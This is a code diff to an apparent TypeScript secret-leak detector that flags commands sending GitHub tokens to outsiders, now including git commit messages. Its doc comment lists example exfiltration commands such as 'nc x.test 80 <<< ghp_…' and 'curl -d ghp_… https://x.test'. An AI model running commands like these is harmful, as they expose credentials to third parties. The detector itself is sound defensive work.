@@ -4,7 +4,7 @@ import { holdsIssued, holdsKept } from '../../secrets/issued.js';
 import { HOLE, textOf } from '../../shell/command.js';
 import { inputText } from '../../shell/output/output.js';
 import { emitResource } from '../command/emit.js';
-import { isForgeEntry } from './forge-entry.js';
+import { isForgeEntry, isHistoryMessage } from './forge-entry.js';
 import { hostOf, isNamedAfter, isOf, issuerOfToken } from './issuer-hosts.js';
 
 /** Whom a command speaks to. */
@@ -18,7 +18,7 @@ interface Reached {
 }
 
 /**
- * `nc x.test 80 <<< ghp_…`, `gh issue comment -b ghp_…`, `curl -d ghp_… https://x.test`: a token that stands in the command
+ * `nc x.test 80 <<< ghp_…`, `gh issue comment -b ghp_…`, `git commit -m ghp_…`, `curl -d ghp_… https://x.test`: a token that stands in the command
  * itself, or in what is piped into it, goes to others than gave it out.
  *
  * @param before the number of effects that there were before this command's own
@@ -58,7 +58,7 @@ function reachedBy(args: readonly string[], { program, frame: { analysis } }: Ru
   const [services, others] = parted(named('send'), (name) => name.includes('://') || fetched.includes(name));
   return {
     services: [...fetched, ...services, ...addresses].flatMap((name) => hostOf(name) ?? []),
-    anybody: others.some((name) => name === '' || name.split(/[\s/:@]+/).some((piece) => hostOf(piece) !== undefined)) || isForgeEntry(program, args),
+    anybody: others.some((name) => name === '' || name.split(/[\s/:@]+/).some((piece) => hostOf(piece) !== undefined)) || isForgeEntry(program, args) || isHistoryMessage(program, args),
     apart: own.some(({ kind, target }) => kind === 'execute' && target.kind === 'resource' && target.resource === 'code'),
   };
 }
